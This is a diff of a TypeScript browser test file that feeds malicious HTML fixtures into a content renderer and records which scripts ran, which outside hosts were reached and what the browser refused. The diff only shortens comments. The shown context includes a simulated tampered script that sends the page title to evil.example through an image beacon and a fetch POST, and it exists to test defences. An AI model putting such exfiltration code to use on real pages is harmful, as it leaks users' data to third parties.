@@ -4,7 +4,7 @@ import { contentItem, serveContent, type Region } from '../fixtures/content.ts';
 import { attacks, floods, type Attack } from '../fixtures/malicious-content.ts';
 import { expect, nightly, test } from '../fixtures/test.ts';
 
-/** Records an attack's effects: it ran, reached another host or hid the page; and what the browser refused. */
+/** It ran, reached another host or hid the page; and what the browser refused. */
 async function watch(page: Page) {
   const found = { runs: 0, outside: [] as string[], refused: [] as string[] };
   await page.exposeFunction('ran', () => void (found.runs += 1));
@@ -20,7 +20,7 @@ async function watch(page: Page) {
   return found;
 }
 
-/** An item that attacks in every field: title, text, colours, image and link. */
+/** Attacks in every field: title, text, colours, image and link. */
 const itemOf = (region: Region, { html }: Attack, number: number) =>
   contentItem(region, `${number} ${html.slice(0, 200)}`, {
     content: `<p>Harmless ${number}</p>${html}`,
@@ -87,14 +87,14 @@ const insert = `
 const integrity = `sha384-${createHash('sha384').update(insert).digest('base64')}`;
 const head = `<!doctype html><meta charset="utf-8"><title>Fixture</title><h1>Fixture</h1><div id="place"></div>`;
 
-/** A page that draws content unchanged, parsed or inserted by a script. */
+/** Unchanged, parsed or inserted by a script. */
 function drawAsItIs({ html }: Attack, way: 'parsed' | 'inserted') {
   if (way === 'parsed') return head + html;
   const data = JSON.stringify(html).replaceAll('<', String.raw`\u003c`);
   return `${head}<script type="application/json" id="content">${data}</script><script src="/insert.js" integrity="${integrity}" crossorigin="anonymous"></script>`;
 }
 
-/** What a tampered script of the page would do. */
+/** In a tampered script of the page. */
 const track = `
   new Image().src = 'https://evil.example/pixel.png?' + document.title;
   fetch('https://evil.example/data', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {});
